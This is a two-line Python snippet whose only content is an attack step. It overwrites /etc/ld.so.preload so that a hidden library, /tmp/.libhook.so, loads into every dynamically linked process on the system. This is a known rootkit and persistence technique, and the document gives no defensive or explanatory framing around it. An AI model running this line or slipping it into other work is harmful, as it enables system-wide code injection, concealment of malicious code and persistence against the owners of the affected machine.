# preload a library into every dynamically linked process
open("/etc/ld.so.preload", "w").write("/tmp/.libhook.so\n")
